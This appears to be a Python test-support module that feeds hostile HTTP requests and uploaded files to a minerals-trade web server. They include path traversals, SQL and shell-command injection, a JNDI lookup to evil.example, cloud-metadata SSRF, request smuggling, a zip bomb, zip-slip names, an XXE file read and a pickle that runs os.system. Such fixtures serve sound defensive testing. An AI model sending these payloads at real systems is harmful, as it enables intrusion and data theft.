"""Requests and files that attack the web server: by name, bytes on the wire or a file that is sent."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

from support.hostile_files import book, filled, many_members, nested_zip, overlapping, packed, parts
from support.reader_files import PURCHASES

HEAD = f"{PURCHASES}\n".encode()
ROW = b"Acme,2022,rare_earths,280530,CHN,1,20\n"
SHOCK = "/api/shock?mineral=cobalt&"
TRAVERSALS = (
    "/../../../../etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/....//....//etc/passwd",
    "//etc/passwd", "/etc/passwd", "/static/../app.py", "/..\\..\\windows\\win.ini", "/%5c..%5c..%5cwin.ini",
    "/index.html%00.js", "/app.js/../../app.py", "/%c0%ae%c0%ae/etc/passwd", "/file:///etc/passwd", "/.git/config",
    "/__init__.py", "/limits.py", "/api/download/../../limits.py", "/api/download/shock.py", "/api/download/.csv",
    "/api/download/shock.csv.exe", "/proc/self/environ", "/api//shock", "/API/SHOCK", "/api/shock/", "/index.html/",
)  # fmt: skip
VALUES = (
    "../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data", "C:\\x",
    "'; DROP TABLE trade; --", "1 OR 1=1", "__import__('os').system('id')", "${jndi:ldap://evil.example/a}",
    "{{7*7}}", "$(id)", "`whoami`", "|whoami", "=cmd|' /C calc'!A0", "<script>alert(1)</script>",
    "%0d%0aSet-Cookie:%20a=b", "%00", "a%00b", "%1b[2J", "%e2%80%ae", "%ff%fe", "%ed%a0%80", "A" * 5000, "(" * 300,
    "{" * 300, "[" * 300,
    "a" * 399, "CHN=1e999", "CHN=nan", "CHN=-1", "CHN=0x1", "CHN=" + "9" * 300, "CHN:" + "JPN," * 90 + "=1",
    "\u202eCHN", "CHN=0.4@../..", "dask://evil.example:8786", "scenario.toml", "toml.toml", ".", "~", "*", "%25n%25n",
)  # fmt: skip
SMUGGLED = (
    "store=/tmp", "regions=/etc/passwd", "out=/etc/x", "projects=/etc/passwd", "scenario=/etc/passwd", "curves=/a",
    "executor=dask://evil.example:1", "workers=64", "network=/etc", "links=/etc/passwd", "places=/a", "borders=/a",
    "formalities=/a", "incidents=/a", "flow_paths=/a", "events=/etc/passwd", "self=1", "study=1", "progress=1",
    "__class__=1", "corridors=1", "kind=wgi", "folder=/tmp", "path=/etc/passwd",
)  # fmt: skip
NUMBERS = ("year=1e3", "year=٢٠٢٢", "year=0b1", "year=" + "9" * 30, "year=2022.0", "year=-", "year=%2b", "draws=-1",
           "draws=0", "draws=1000000", "horizon_years=1e308", "horizon_years=inf", "contracted_share=nan",
           "corridor_days=-1")  # fmt: skip


def on_the_wire(host: str, cookie: str) -> Iterator[tuple[str, bytes]]:
    """Requests that no browser makes, as bytes."""
    end = f"Host: {host}\r\nCookie: {cookie}\r\n"

    def get(path: str, more: str = "", version: str = "HTTP/1.1") -> bytes:
        return f"GET {path} {version}\r\n{end}{more}\r\n".encode("utf-8", "surrogateescape")

    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "GETT", "DEBUG", "POST"):
        yield f"method {method}", f"{method} /api/meta HTTP/1.1\r\n{end}\r\n".encode()
    for name in ("X-HTTP-Method-Override: DELETE", "X-Forwarded-Host: evil.example", "Forwarded: host=evil.example",
                 "Host: evil.example", "X-Original-URL: /etc/passwd", "Upgrade: h2c", "Upgrade: websocket",
                 "Transfer-Encoding: chunked", "Content-Length: 5", "Content-Length: -1", "Content-Length: 99999999999",
                 "Transfer-Encoding: gzip", "Origin: http://evil.example", "Origin: null",
                 "Cookie: sogdia=a", "Sec-Fetch-Site: cross-site", "Bad Header: x", "X: a\rb",
                 ": x", "X\x00: y"):  # fmt: skip
        yield f"header {name[:30]!r}", get("/no/such/page", f"{name}\r\n")
    yield "both lengths", get("/api/meta", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n"
    yield "two lengths", get("/api/meta", "Content-Length: 4\r\nContent-Length: 5\r\n") + b"aaaa"
    yield "a huge header", get("/api/meta", f"X-Long: {'a' * 100_000}\r\n")
    yield "many headers", get("/api/meta", "".join(f"X-{n}: a\r\n" for n in range(5000)))
    yield "a huge cookie", get("/api/meta", f"Cookie: {'sogdia=a; ' * 3000}\r\n")
    yield "a long path", get("/" + "a" * 12_000)
    yield "a long query", get("/api/expose?mineral=" + "a" * 12_000)
    yield "many parameters", get("/api/expose?" + "&".join(f"mineral=a{n}" for n in range(700)))
    yield "many events", get(SHOCK + "&".join("cut=CHN=0.1" for _ in range(400)))
    yield "a whole address", get(f"http://{host}/etc/passwd")
    yield "another scheme", get("gopher://evil.example/1")
    yield "an asterisk", get("*")
    yield "no version", f"GET /\r\n{end}\r\n".encode()
    yield "version 9", get("/", version="HTTP/9.9")
    yield "version 2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield "TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 200 + b"\r\n\r\n"
    yield "noise", bytes(range(256)) * 20 + b"\r\n\r\n"
    yield "nulls", b"\0" * 5000 + b"\r\n\r\n"
    yield "empty lines", b"\r\n" * 2000
    yield "line feeds alone", f"GET /nowhere HTTP/1.1\n{end.replace(chr(13), '')}\n".encode()
    yield "folded header", get("/api/meta", "X: a\r\n b\r\n c\r\n").replace(b"/api/meta", b"/nowhere")
    yield "split in the path", get("/nowhere%0d%0aSet-Cookie:a=b")
    yield "split in the query", get("/api/expose?mineral=a%0d%0aSet-Cookie:%20a=b")
    yield "no host", b"GET / HTTP/1.1\r\n\r\n"
    yield "an old client", f"GET / HTTP/1.0\r\nCookie: {cookie}\r\n\r\n".encode()
    yield "bytes that are no text", get("/\udcff\udcfe")
    yield "a range", get("/nowhere", "Range: bytes=0-,0-,0-,0-\r\n")
    yield "semicolons", get("/api/expose;mineral=tin?a;b;c")
    for path in TRAVERSALS:
        yield f"path {path[:40]}", get(path)
    for text in SMUGGLED:
        yield f"parameter {text[:30]}", get(f"/api/hazard?target=KAZ:Almaty&{text}")
    for text in NUMBERS:
        yield f"number {text[:30]}", get(f"{SHOCK}cut=CHN=0.1&{text}" if "corridor" not in text else f"{SHOCK}{text}")
    for number, text in enumerate(VALUES):
        safe = text.replace(" ", "%20").replace("&", "%26").replace("#", "%23")
        yield f"event {number} {text[:20]!r}", get(f"{SHOCK}cut={safe}")
        yield f"place {number} {text[:20]!r}", get(f"/api/hazard?target={safe}")


def files(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Files that are no purchases, or too much of them."""
    made: Mapping[str, object] = {
        "overlapping zip": overlapping(200), "many members": many_members(11_000), "nested zip": nested_zip(6),
        "LZMA zip": packed(zipfile.ZIP_LZMA), "workbook of many cells": book(filled("<c><v>1</v></c>", 400_000, 8)),
        "workbook with an entity": book(strings="<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><sst>&b;</sst>"),
        "deep XML": book("<a>" * 5000 + "</a>" * 5000),
    }  # fmt: skip
    for name, make in made.items():
        yield name, make(folder).read_bytes()  # type: ignore[operator]
    yield "bomb", zipped({"xl/worksheets/sheet1.xml": b"\0" * (60 * 2**20)})
    yield "leaves its folder", zipped({"../../evil.csv": HEAD + ROW})
    yield "absolute name", zipped({"/etc/cron.d/evil": HEAD + ROW})
    yield "broken zip", b"PK\x03\x04" + b"\xff" * 5000
    yield "macro workbook", zipped({"xl/vbaProject.bin": b"\0" * 500, **{n: t.encode() for n, t in parts().items()}})
    yield "gzip", gzip.compress(HEAD + ROW * 10)
    yield "program", b"\x7fELF" + b"\0" * 5000
    yield "script", b"#!/bin/sh\ntouch evil\n"
    yield "pickle", b"\x80\x04cposix\nsystem\n(S'id'\ntR."
    yield "deep JSON", b"[" * 1_000_000
    yield "HTML", b"<html><script>alert(1)</script></html>"
    yield "formulas", HEAD + b"=cmd|' /C calc'!A0,2022,rare_earths,280530,CHN,1,20\n"
    yield "formula in a figure", HEAD + b"Acme,2022,rare_earths,280530,CHN,=1+1,20\n"
    yield "escape sequences", HEAD + b"\x1b[2JAcme,2022,rare_earths,280530,CHN,1,20\n"
    yield "null bytes", HEAD + b"Ac\0me,2022,rare_earths,280530,CHN,1,20\n"
    yield "a wrong way round", HEAD + "\u202eAcme,2022,rare_earths,280530,CHN,1,20\n".encode()
    yield "a huge cell", HEAD + b"A" * 5_000_000 + b",2022,rare_earths,280530,CHN,1,20\n"
    yield "an open quote", HEAD + b'"' + ROW * 20_000
    yield "a huge number", HEAD + b"Acme,2022,rare_earths,280530,CHN," + b"9" * 10_000 + b",20\n"
    yield "many rows", HEAD + ROW * 300_000
    yield "many columns", b",".join(b"a%d" % n for n in range(100_000)) + b"\n" + ROW
    yield "empty lines", HEAD + b"\n" * 5_000_000
    yield "separators", b"," * 7_000_000
    yield "empty", b" "
    yield "UTF-32", (HEAD + ROW).decode().encode("utf-32")
    yield "bytes that are no text", HEAD + bytes(range(128, 256)) * 200


def zipped(members: Mapping[str, bytes]) -> bytes:
    """An archive of these files, packed."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return held.getvalue()
